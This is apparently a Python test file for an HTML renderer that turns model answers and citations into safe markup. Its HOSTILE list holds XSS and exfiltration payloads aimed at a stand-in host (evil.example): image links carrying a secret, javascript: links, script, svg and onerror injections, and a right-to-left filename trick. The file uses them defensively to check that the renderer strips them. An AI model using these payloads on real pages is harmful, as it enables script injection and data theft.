"""Answers as HTML: nothing a document or a model writes can fetch, run or lead away."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.types import Citation
from web.render import to_html

CITED = Citation(
    1, "doc_a", "a", 'A "title" <b>', 2, 3, "", "quote", "/documents/doc_a?revision=2&start=0&end=5#passage"
)

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<a href='//evil.example'>x</a>",
    "<style>@import url(//evil.example)</style>",
    '<svg onload="alert(1)">',
    "[1](https://evil.example)",
    '| a |\n|---|\n| <iframe src="//evil.example"> |',
    "```html\n<script>alert(1)</script>\n```",
    "\x1b[31mred\x1b[0m \u202egnp.exe",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("quoted", [False, True])
def test_hostile_text(text: str, quoted: bool) -> None:
    check(to_html(text + " [1]", [CITED], quoted=quoted))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, "[1]", "[9]", "\n", " ", "# ", "- ", "> ", "`", "**", "|", "&#106;avascript:", "\\", "<", ">"]), max_size=12))  # fmt: skip
def test_any_mixture(parts: list[str]) -> None:
    check(to_html("".join(parts), [CITED]))


def check(html: str) -> None:
    tags = {tag.lower() for tag in re.findall(r"<\s*/?\s*([a-zA-Z]+)", html)}
    assert not tags & {"img", "script", "style", "svg", "iframe", "object", "link", "form", "base", "meta"}
    for attributes in re.findall(r"<\w+\s([^>]*)>", html):
        assert not re.search(r"\b(?:src|on\w+|style)\s*=", attributes)
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith("/documents/doc_a?")


def test_markdown_and_citations() -> None:
    html = to_html("**Yes** [1][2].\n\n- one\n- two [1]\n\n# Big", [CITED])
    assert "<strong>Yes</strong>" in html and "<li>one</li>" in html and "<h3>Big</h3>" in html
    assert html.count('data-n="1"') == 2 and "[2]" in html
    assert 'title="A &quot;title&quot; &lt;b&gt;, page 3"' in html


def test_quotes_are_no_markdown() -> None:
    assert "<h" not in to_html("# not a heading [1]", [CITED], quoted=True)


def test_a_curated_answer_leads_to_its_entry() -> None:
    from dataclasses import replace

    assert 'href="/faq#faq_x"' in to_html("Yes. [1]", [replace(CITED, document_id="faq_x", url="")])


def test_a_quoted_table_is_a_table_with_its_mark_below() -> None:
    html = to_html("| A | B |\n| --- | --- |\n| 1 | 2 |\n\n[1]", [CITED], quoted=True)
    assert html.count("<tr>") == 2 and "<td>2</td>" in html
    assert html.index('class="cite"') > html.index("</table>")


def test_headings_begin_below_the_questions_whatever_level_the_writer_chose() -> None:
    assert to_html("### One\n\n#### Two\n\n### Three").count("h3>") == 4
    assert "<h3>Top</h3>" in to_html("# Top\n\n## Below") and "<h4>Below</h4>" in to_html("# Top\n\n## Below")


def test_a_single_wide_row_stands_upright() -> None:
    """Eight cells side by side end beyond the edge of a phone, the one that was asked for among them."""
    heads = ["Name", "Role", "Site", "Extension", "Mail", "Deputy"]
    row = ["Moira Kelso", "Lead", "", "4520", "m@example.com", "Ada [1] <b>"]
    table = "\n".join(f"| {' | '.join(cells)} |" for cells in (heads, ["---"] * 6, row))
    html = to_html(table + "\n\n[1]", [CITED], quoted=True)
    assert html.count("<tr>") == 5 and "Site" not in html, "one line a cell, none for the empty one"
    assert re.search(r"<th>Deputy</th>\s*<td>Ada .*&lt;b&gt;</td>", html)
    narrow = to_html("| a | b |\n| --- | --- |\n| 1 | 2 |", quoted=True)
    assert narrow.count("<tr>") == 2
    assert to_html(table + "\n" + table.split("\n")[2], quoted=True).count("<tr>") == 3, (
        "two rows are compared"
    )
